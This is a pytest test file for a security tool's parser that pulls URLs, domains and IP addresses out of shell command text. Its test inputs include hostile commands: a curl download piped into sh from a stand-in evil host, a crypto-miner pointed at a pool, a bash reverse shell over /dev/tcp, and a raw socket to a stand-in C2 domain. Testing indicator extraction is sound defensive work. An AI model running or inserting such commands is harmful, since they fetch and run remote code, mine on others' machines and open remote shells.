import pytest
from hypothesis import given
from hypothesis import strategies as st

from hemostat.model.finding import Observable
from hemostat.parse.host.shell_text_observables import (
    addresses_in,
    domains_in,
    observables_in,
    urls_in,
)


@pytest.mark.requirement("A3.7")
def test_a_download_names_its_url_and_domain() -> None:
    assert observables_in("curl -s https://Evil.Example.com:8443/a.sh | sh") == (
        Observable("domain-name", "evil.example.com"),
        Observable("url", "https://Evil.Example.com:8443/a.sh"),
    )


def test_pool_urls_are_urls() -> None:
    assert urls_in("xmrig -o stratum+tcp://pool.example.org:3333 -u x") == (
        "stratum+tcp://pool.example.org:3333",
    )


def test_addresses_are_canonical_and_once() -> None:
    command = "nc 198.51.100.7 443; bash -i >& /dev/tcp/198.51.100.7/1; ping 2001:DB8:0:0::1"
    assert addresses_in(command) == ("198.51.100.7", "2001:db8::1")


@pytest.mark.parametrize(
    "command",
    ["x 127.0.0.1 0.0.0.0 ::1", "lib-1.2.3.4.5", "a 1.2.3.4-5", "999.1.1.1", "12:30:45", "a::b()"],
)
def test_what_names_no_other_host_is_left_out(command: str) -> None:
    assert addresses_in(command) == ()


def test_a_raw_socket_names_its_domain() -> None:
    assert domains_in("exec 3<>/dev/tcp/c2.example.net/443") == ("c2.example.net",)


def test_bare_words_with_dots_are_no_domains() -> None:
    assert domains_in("systemctl start app.service; ./x.sh") == ()


@given(st.text(max_size=500))
def test_any_text_is_read(text: str) -> None:
    assert all(each.value for each in observables_in(text))
